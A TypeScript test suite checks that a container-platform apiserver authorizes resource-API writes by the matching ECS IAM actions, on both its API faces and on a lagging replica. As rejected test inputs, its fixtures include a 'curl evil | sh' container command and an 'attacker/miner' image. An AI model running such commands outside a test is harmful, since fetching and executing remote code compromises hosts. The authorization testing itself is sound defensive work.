// A resource-API write is authorized for what it changes, in the write path, as the ECS face
// authorizes the operation that makes the same change (R1-1, R1-2, R1-3), and a family is
// authorized as the revision it runs, resolved fresh, on both faces (R1-8). Real apiservers,
// both faces, a policy file; the embedded store in a temp dir.
import { readFile } from 'node:fs/promises';
import { expect } from 'chai';
import { buildApiServer, listen, type ApiServer } from '../../pkg/apiserver/apiserver.ts';
import type { Listener } from '../../pkg/apiserver/listener.ts';
import { ecsFrontDoor } from '../../pkg/ecsapi/ecsapi.ts';
import { silentLogger } from '../../pkg/log/log.ts';
import { ARN, TARGET, V, ns, startAuthzServer, type AuthzServer } from '../support/authz.ts';
import { eventually } from '../support/fleet.ts';
import { delayedStore } from '../support/haapi.ts';
import { newKey, sdkSigner } from '../ecsapi/support.ts';

const merge = 'application/merge-patch+json';
const tdBody = (name: string, image: string) => ({
  apiVersion: 'berth.dev/v1',
  kind: 'TaskDefinition',
  metadata: { name },
  spec: { containerDefinitions: [{ name: 'c', image, memory: 64 }] },
});
const taskBody = (name: string, td = 'web') => ({ apiVersion: 'berth.dev/v1', kind: 'Task', metadata: { name }, spec: { taskDefinition: td } });

const allow = (Sid: string, Action: string[], Resource: string | string[], Condition?: unknown) => ({ Sid, Effect: 'Allow', Action, Resource, ...(Condition ? { Condition } : {}) });
const deny = (Sid: string, Action: string[], Resource: string | string[], Condition?: unknown) => ({ Sid, Effect: 'Deny', Action, Resource, ...(Condition ? { Condition } : {}) });
const doc = (...Statement: unknown[]) => ({ Version: '2012-10-17', Statement });

const POLICIES = {
  policies: {
    // the review's operator: may stop tasks in A, tag anything and update services in A, but
    // not register task definitions nor move a service to family evil
    Operator: doc(
      allow('StopInA', ['ecs:StopTask', 'ecs:DescribeTasks'], `${ARN}:task/A/*`),
      allow('TagAnything', ['ecs:TagResource'], '*'),
      deny('NoRegister', ['ecs:RegisterTaskDefinition'], '*'),
      allow('UpdateInA', ['ecs:UpdateService'], `${ARN}:service/A/*`),
      deny('NotEvil', ['ecs:UpdateService'], '*', { ArnLike: { 'ecs:task-definition': `${ARN}:task-definition/evil:*` } }),
    ),
    // the same intent as IAM's usual allow-list: a Deny unless the task definition is of family web
    WebOnly: doc(
      allow('UpdateInA', ['ecs:UpdateService'], `${ARN}:service/A/*`),
      deny('OnlyWeb', ['ecs:UpdateService'], '*', { ArnNotLike: { 'ecs:task-definition': `${ARN}:task-definition/web:*` } }),
    ),
    // CI: registers task definitions, tags nothing
    Registrar: doc(allow('Register', ['ecs:RegisterTaskDefinition'], '*')),
    // stops tasks in A, nothing else
    Stopper: doc(allow('StopInA', ['ecs:StopTask'], `${ARN}:task/A/*`)),
    // tags things, nothing else (cost allocation)
    Tagger: doc(allow('TagAnything', ['ecs:TagResource'], '*')),
  },
  users: { alice: ['Operator'], bob: ['WebOnly'], carol: ['Registrar'], dave: ['Stopper'], tess: ['Tagger'] },
};

const who = (user: string, uid: string) => ({ token: `${user}-token-${Math.random().toString(36).slice(2)}`, user, uid, groups: [] as string[] });
const bob = who('bob', '11');
const carol = who('carol', '12');
const dave = who('dave', '13');
const tess = who('tess', '16');
const bobKey = newKey('bob', []);

describe('a resource-API write is authorized for what it changes (R1-1, R1-2, R1-3)', function () {
  this.timeout(120_000);
  let s: AuthzServer;
  const as = (u: { token: string }, method: string, path: string, body?: unknown) => s.k8s('anonymous', method, path, body, { token: u.token, contentType: method === 'PATCH' ? merge : undefined });
  const admin = (method: string, path: string, body?: unknown) => s.k8s('admin', method, path, body, { contentType: method === 'PATCH' ? merge : undefined });
  const revisions = async (family: string) =>
    (await admin('GET', `${V}/taskdefinitions?fieldSelector=status.family%3D${family}`)).body.items.map((t: any) => `${t.metadata.name}:${t.spec.containerDefinitions[0].image}`);

  before(async () => {
    s = await startAuthzServer({ policies: POLICIES, extraTokens: [bob, carol, dave, tess], extraKeys: [bobKey] });
    for (const [n, image] of [['app', 'busybox'], ['evil', 'attacker/miner'], ['web', 'busybox:2']]) {
      expect((await admin('POST', `${V}/taskdefinitions`, tdBody(n, image))).status).to.be.oneOf([200, 201]);
    }
  });
  after(async () => s?.stop());

  describe('R1-1: a task definition family written with a new spec registers a revision: ecs:RegisterTaskDefinition', () => {
    it('R1-1: alice (TagResource allowed, RegisterTaskDefinition denied) is refused on both faces, and no revision is registered', async () => {
      const ecs = await s.ecs('alice', 'RegisterTaskDefinition', { family: 'app', containerDefinitions: [{ name: 'c', image: 'attacker/miner', memory: 64 }] });
      expect([ecs.status, ecs.body.__type]).to.deep.equal([403, 'AccessDeniedException']);
      for (const [method, body] of [
        ['PATCH', { spec: { containerDefinitions: [{ name: 'c', image: 'attacker/miner', memory: 64 }] } }],
        ['PUT', { ...tdBody('app', 'attacker/miner'), metadata: { name: 'app', resourceVersion: (await admin('GET', `${V}/taskdefinitions/app`)).body.metadata.resourceVersion } }],
      ] as const) {
        const r = await s.k8s('alice', method, `${V}/taskdefinitions/app`, body, { contentType: method === 'PATCH' ? merge : undefined });
        expect([r.status, r.body.reason], `${method}: ${JSON.stringify(r.body)}`).to.deep.equal([403, 'Forbidden']);
        expect(r.body.message).to.contain('cannot create resource "taskdefinitions"').and.contain('explicitly denied by policy "Operator"').and.contain('ecs:RegisterTaskDefinition');
      }
      expect(await revisions('app')).to.deep.equal(['app:1:busybox']);
      // what she may do there: tag a revision (its metadata)
      const tag = await s.k8s('alice', 'PATCH', `${V}/taskdefinitions/app:1`, { metadata: { labels: { team: 'a' } } }, { contentType: merge });
      expect(tag.status, JSON.stringify(tag.body)).to.equal(200);
      expect(tag.body.metadata.labels).to.deep.equal({ team: 'a' });
    });

    it('R1-1: carol (RegisterTaskDefinition allowed, TagResource not) registers through a family PATCH, and may not tag a revision; the audit log records a registration', async () => {
      const r = await as(carol, 'PATCH', `${V}/taskdefinitions/app`, { spec: { containerDefinitions: [{ name: 'c', image: 'busybox:carol', memory: 64 }] } });
      expect(r.status, JSON.stringify(r.body)).to.equal(200);
      expect(r.body.status.revision).to.equal(2);
      expect(await revisions('app')).to.deep.equal(['app:1:busybox', 'app:2:busybox:carol']);
      const tag = await as(carol, 'PATCH', `${V}/taskdefinitions/app:1`, { metadata: { labels: { team: 'c' } } });
      expect([tag.status, tag.body.reason]).to.deep.equal([403, 'Forbidden']);
      expect(tag.body.message).to.contain('no identity-based policy allows ecs:TagResource on');
      await eventually(
        async () => (await readFile(s.auditLog, 'utf8')).split('\n').some((l) => l.includes('"user":"carol"') && l.includes('"verb":"create"') && l.includes('"name":"app:2"')),
        10_000,
        "carol's family PATCH audited as the registration of app:2",
      );
    });
  });

  describe("R1-2: a task's spec is fixed once it exists; StopTask stops, TagResource tags", () => {
    it('R1-2: even an admin cannot change what a bound task runs or reserves (422 naming the field); its allocation stays as charged', async () => {
      const alloc = async () => JSON.parse((await s.api.store.get('/berth/allocations/A/ci-a'))!.value).tasks;
      const before = await alloc();
      expect(before.ta, 'ta is charged to ci-a').to.not.equal(undefined);
      const spec = (await admin('GET', `${ns('A')}/tasks/ta`)).body.spec;
      const overrides = { containerOverrides: [{ name: 'c', command: ['sh', '-c', 'curl evil | sh'], memory: 7000 }] };
      for (const [field, spec] of [
        ['spec.overrides', { overrides }],
        ['spec.group', { group: 'service:svc' }],
        ['spec.startedBy', { startedBy: 'ecs-svc/123' }],
        ['spec.placementConstraints', { placementConstraints: [{ type: 'distinctInstance' }] }],
        ['spec.stopReason', { stopReason: 'not stopping it, though' }],
      ] as const) {
        const r = await admin('PATCH', `${ns('A')}/tasks/ta`, { spec });
        expect([r.status, r.body.reason], `${field}: ${JSON.stringify(r.body)}`).to.deep.equal([422, 'Invalid']);
        expect(r.body.details.causes.map((c: { field: string }) => c.field)).to.deep.equal([field]);
      }
      expect(await alloc()).to.deep.equal(before);
      expect((await admin('GET', `${ns('A')}/tasks/ta`)).body.spec).to.deep.equal(spec);
    });

    it('R1-2: dave (StopTask only) stops a task and cannot tag it; alice (also TagResource) tags it', async () => {
      for (const n of ['r12-a', 'r12-b']) expect((await admin('POST', `${ns('A')}/tasks`, taskBody(n))).status).to.equal(201);
      const over = await as(dave, 'PATCH', `${ns('A')}/tasks/r12-a`, { spec: { overrides: { containerOverrides: [{ name: 'c', command: ['id'] }] } } });
      expect(over.status, JSON.stringify(over.body)).to.equal(422);
      for (const body of [{ spec: { tags: [{ key: 'k', value: 'v' }] } }, { metadata: { labels: { k: 'v' } } }]) {
        const r = await as(dave, 'PATCH', `${ns('A')}/tasks/r12-a`, body);
        expect([r.status, r.body.reason], JSON.stringify(body)).to.deep.equal([403, 'Forbidden']);
        expect(r.body.message).to.contain(`ecs:TagResource on ${ARN}:task/A/r12-a`);
      }
      // stopping and tagging at once needs both
      const both = await as(dave, 'PATCH', `${ns('A')}/tasks/r12-a`, { spec: { desiredStatus: 'STOPPED', tags: [{ key: 'k', value: 'v' }] } });
      expect(both.status).to.equal(403);
      const stop = await as(dave, 'PATCH', `${ns('A')}/tasks/r12-a`, { spec: { desiredStatus: 'STOPPED', stopReason: 'done' } });
      expect(stop.status, JSON.stringify(stop.body)).to.equal(200);
      expect(stop.body.spec.desiredStatus).to.equal('STOPPED');
      const tag = await s.k8s('alice', 'PATCH', `${ns('A')}/tasks/r12-b`, { spec: { tags: [{ key: 'k', value: 'v' }] } }, { contentType: merge });
      expect(tag.status, JSON.stringify(tag.body)).to.equal(200);
      expect(tag.body.spec.tags).to.deep.equal([{ key: 'k', value: 'v' }]);
      const got = (await admin('GET', `${ns('A')}/tasks/r12-a`)).body;
      expect(got.spec.tags).to.equal(undefined);
      expect(got.metadata.labels).to.equal(undefined);
    });
  });

  it('R1-1, R1-2: tess (TagResource only) tags a task, a service, a cluster and a revision, and changes nothing else of them', async () => {
    expect((await admin('POST', `${ns('A')}/tasks`, taskBody('tess-t'))).status).to.equal(201);
    const tags = [{ key: 'cost', value: 'c1' }];
    for (const path of [`${ns('A')}/tasks/tess-t`, `${ns('A')}/services/svc`, `${V}/clusters/B`]) {
      const r = await as(tess, 'PATCH', path, { spec: { tags } });
      expect(r.status, `${path}: ${JSON.stringify(r.body)}`).to.equal(200);
      expect(r.body.spec.tags).to.deep.equal(tags);
    }
    expect((await as(tess, 'PATCH', `${V}/taskdefinitions/app:1`, { metadata: { annotations: { cost: 'c1' } } })).status).to.equal(200);
    // what is not tagging is the kind's own action, which she lacks (and a task's spec is fixed)
    const scale = await as(tess, 'PATCH', `${ns('A')}/services/svc`, { spec: { desiredCount: 1 } });
    expect([scale.status, scale.body.reason]).to.deep.equal([403, 'Forbidden']);
    expect(scale.body.message).to.contain('User "tess" cannot patch resource "services"').and.contain('ecs:UpdateService');
    expect((await as(tess, 'PATCH', `${ns('A')}/tasks/tess-t`, { spec: { desiredStatus: 'STOPPED' } })).status).to.equal(403);
    expect((await as(tess, 'PATCH', `${V}/taskdefinitions/app`, { spec: { containerDefinitions: [{ name: 'c', image: 'busybox:tess', memory: 64 }] } })).status).to.equal(403);
    expect((await admin('GET', `${ns('A')}/services/svc`)).body.spec.desiredCount).to.equal(0);
  });

  describe('R1-3: a service moved to another task definition carries ecs:task-definition on both faces', () => {
    // [user, the change, expected on the ECS face and on the resource API alike]
    const CASES: Array<[string, Record<string, unknown>, number]> = [
      ['alice', { taskDefinition: 'evil' }, 403], // NotEvil: ArnLike evil:*
      ['alice', { taskDefinition: 'web:2' }, 200],
      ['alice', { desiredCount: 0 }, 200], // no task definition: ArnLike does not match an absent key
      ['bob', { taskDefinition: 'web:2' }, 200], // OnlyWeb: ArnNotLike web:*
      ['bob', { taskDefinition: 'web' }, 200], // the family, resolved to web:2 on both faces
      ['bob', { taskDefinition: 'evil:1' }, 403],
      ['bob', { desiredCount: 0 }, 403], // IAM: a negated operator matches an absent key
    ];
    for (const [user, change, want] of CASES) {
      it(`R1-3: ${user} UpdateService ${JSON.stringify(change)} -> ${want} on both faces`, async () => {
        const reset = await admin('PATCH', `${ns('A')}/services/svc`, { spec: { taskDefinition: 'web:1' } });
        expect(reset.status).to.equal(200);
        const e = await s.ecs(user === 'alice' ? 'alice' : 'anonymous', 'UpdateService', { cluster: 'A', service: 'svc', ...change }, user === 'bob' ? { key: bobKey } : {});
        expect(e.status, `ECS: ${JSON.stringify(e.body)}`).to.equal(want);
        if (want === 403) expect(e.body.__type).to.equal('AccessDeniedException');
        await admin('PATCH', `${ns('A')}/services/svc`, { spec: { taskDefinition: 'web:1' } });
        const k = user === 'alice' ? await s.k8s('alice', 'PATCH', `${ns('A')}/services/svc`, { spec: change }, { contentType: merge }) : await as(bob, 'PATCH', `${ns('A')}/services/svc`, { spec: change });
        expect(k.status, `resource API: ${JSON.stringify(k.body)}`).to.equal(want);
        const got = (await admin('GET', `${ns('A')}/services/svc`)).body;
        const stored = got.spec.taskDefinition;
        if (want === 403) expect(stored, 'a refused change changes nothing').to.equal('web:1');
        else if (change.taskDefinition) {
          // the spec keeps what was written; the revision it resolved to is in status
          expect(stored).to.equal(change.taskDefinition);
          expect(got.status.taskDefinition).to.equal(String(change.taskDefinition).includes(':') ? change.taskDefinition : 'web:2');
        }
      });
    }

    it('R1-3: a JSON patch or a PUT names the task definition as a merge patch does (bob: web:2 allowed, evil:1 refused; a PUT names the one it keeps)', async () => {
      const path = `${ns('A')}/services/svc`;
      const jsonPatch = (value: string) => s.k8s('anonymous', 'PATCH', path, [{ op: 'replace', path: '/spec/taskDefinition', value }], { token: bob.token, contentType: 'application/json-patch+json' });
      await admin('PATCH', path, { spec: { taskDefinition: 'web:1' } });
      expect((await jsonPatch('evil:1')).status).to.equal(403);
      expect((await jsonPatch('web:2')).status).to.equal(200);
      await admin('PATCH', path, { spec: { taskDefinition: 'web:1' } });
      // a PUT of the whole service names its task definition (kept at web:1): allowed, as UpdateService given taskDefinition web:1 is
      const cur = (await admin('GET', path)).body;
      const put = await s.k8s('anonymous', 'PUT', path, { ...cur, spec: { ...cur.spec, desiredCount: 0 } }, { token: bob.token });
      expect(put.status, JSON.stringify(put.body)).to.equal(200);
      const ecs = await s.ecs('anonymous', 'UpdateService', { cluster: 'A', service: 'svc', taskDefinition: 'web:1', desiredCount: 0 }, { key: bobKey });
      expect(ecs.status, JSON.stringify(ecs.body)).to.equal(200);
      const now = (await admin('GET', path)).body;
      const evil = await s.k8s('anonymous', 'PUT', path, { ...now, spec: { ...now.spec, taskDefinition: 'evil' } }, { token: bob.token });
      expect([evil.status, evil.body.reason], JSON.stringify(evil.body)).to.deep.equal([403, 'Forbidden']);
      expect((await admin('GET', path)).body.spec.taskDefinition).to.equal('web:1');
    });
  });
});

describe('R1-8: a family is authorized as the revision it runs, resolved fresh, even on an apiserver whose cache trails', function () {
  this.timeout(120_000);
  let s: AuthzServer;
  let lagging: { api: ApiServer; server: Listener; url: string } | undefined;
  const erin = who('erin', '14');
  const frank = who('frank', '15');
  const erinKey = newKey('erin', []);
  const frankKey = newKey('frank', []);
  const policies = {
    policies: {
      // may run job:1 in A, not what the family resolves to later
      RunJob1: doc(allow('RunJob1', ['ecs:RunTask'], `${ARN}:task-definition/job:1`, { ArnEquals: { 'ecs:cluster': `${ARN}:cluster/A` } })),
      // may run job:2 in A only
      RunJob2: doc(allow('RunJob2', ['ecs:RunTask'], `${ARN}:task-definition/job:2`, { ArnEquals: { 'ecs:cluster': `${ARN}:cluster/A` } })),
    },
    users: { erin: ['RunJob1'], frank: ['RunJob2'] },
  };

  before(async () => {
    s = await startAuthzServer({ policies, extraTokens: [erin, frank], extraKeys: [erinKey, frankKey] });
    expect((await s.k8s('admin', 'POST', `${V}/taskdefinitions`, tdBody('job', 'busybox:1'))).status).to.equal(201);
    // a second apiserver on the same store whose watch cache trails it by 1.5 s (as one on a
    // loaded host or a slow link does), with the same tokens, policies and ECS keys
    const api = await buildApiServer({
      store: delayedStore(s.api.store, { watchMs: 1500 }),
      log: silentLogger(),
      tokens: [
        { token: s.tokens.admin!, user: 'admin', uid: '1', groups: ['berth:admins'] },
        { token: erin.token, user: 'erin', uid: erin.uid, groups: [] },
        { token: frank.token, user: 'frank', uid: frank.uid, groups: [] },
      ],
      policyFile: s.policyFile,
      compactionIntervalMs: 0,
      frontDoors: (parts) => [ecsFrontDoor(parts, { keys: [erinKey, frankKey], region: 'us-east-1' })],
    });
    const { server, url } = await listen(api.handler, { listen: '127.0.0.1:0' });
    lagging = { api, server, url };
  });
  after(async () => {
    if (lagging) {
      await lagging.api.stop();
      await new Promise<void>((r) => {
        lagging!.server.close(() => r());
        lagging!.server.closeAllConnections();
      });
    }
    await s?.stop();
  });

  /** an ECS request to the lagging apiserver */
  async function ecsOnLagging(key: ReturnType<typeof newKey>, op: string, input: unknown) {
    const url = new URL(lagging!.url);
    const body = JSON.stringify(input);
    const headers = { host: url.host, 'content-type': 'application/x-amz-json-1.1', 'x-amz-target': `${TARGET}${op}` };
    const signed = await sdkSigner(key, 'us-east-1').sign({ method: 'POST', protocol: 'http:', hostname: url.hostname, port: Number(url.port), path: '/', query: {}, headers, body });
    const { host: _h, ...sendable } = signed.headers as Record<string, string>;
    void _h;
    const res = await fetch(lagging!.url + '/', { method: 'POST', headers: sendable, body });
    return { status: res.status, body: (await res.json()) as any };
  }
  async function k8sOnLagging(token: string, method: string, path: string, body?: unknown) {
    const res = await fetch(lagging!.url + path, { method, headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' }, body: body === undefined ? undefined : JSON.stringify(body) });
    return { status: res.status, body: (await res.json()) as any };
  }

  it('R1-8: RunTask and a task create of family "job" right after job:2 was registered elsewhere: erin (job:1 only) is refused, frank (job:2 only) runs job:2', async () => {
    await eventually(async () => lagging!.api.cache.get('/berth/taskdefinitions/_/job:1') !== undefined, 10_000, 'the lagging apiserver to know job:1');
    const reg = await s.k8s('admin', 'POST', `${V}/taskdefinitions`, tdBody('job', 'busybox:2'));
    expect([reg.status, reg.body.metadata?.name]).to.deep.equal([201, 'job:2']);
    // the premise: the lagging apiserver does not know job:2 yet
    expect(lagging!.api.cache.get('/berth/taskdefinitions/_/job:2'), 'the lagging cache already has job:2').to.equal(undefined);
    const [erinEcs, erinK8s, frankEcs, frankK8s] = await Promise.all([
      ecsOnLagging(erinKey, 'RunTask', { cluster: 'A', taskDefinition: 'job' }),
      k8sOnLagging(erin.token, 'POST', `${ns('A')}/tasks`, taskBody('r18-erin', 'job')),
      ecsOnLagging(frankKey, 'RunTask', { cluster: 'A', taskDefinition: 'job', startedBy: 'r18-frank' }),
      k8sOnLagging(frank.token, 'POST', `${ns('A')}/tasks`, taskBody('r18-frank', 'job')),
    ]);
    expect([erinEcs.status, erinEcs.body.__type], JSON.stringify(erinEcs.body)).to.deep.equal([403, 'AccessDeniedException']);
    expect(erinEcs.body.message).to.contain(`ecs:RunTask on resource: ${ARN}:task-definition/job:2`);
    expect([erinK8s.status, erinK8s.body.reason], JSON.stringify(erinK8s.body)).to.deep.equal([403, 'Forbidden']);
    expect(frankEcs.status, JSON.stringify(frankEcs.body)).to.equal(200);
    expect(frankEcs.body.tasks.map((t: { taskDefinitionArn: string }) => t.taskDefinitionArn)).to.deep.equal([`${ARN}:task-definition/job:2`]);
    expect(frankK8s.status, JSON.stringify(frankK8s.body)).to.equal(201);
    expect([frankK8s.body.spec.taskDefinition, frankK8s.body.status.taskDefinition]).to.deep.equal(['job', 'job:2']);
    // what erin was refused does not exist
    expect((await s.k8s('admin', 'GET', `${ns('A')}/tasks/r18-erin`)).status).to.equal(404);
  });
});
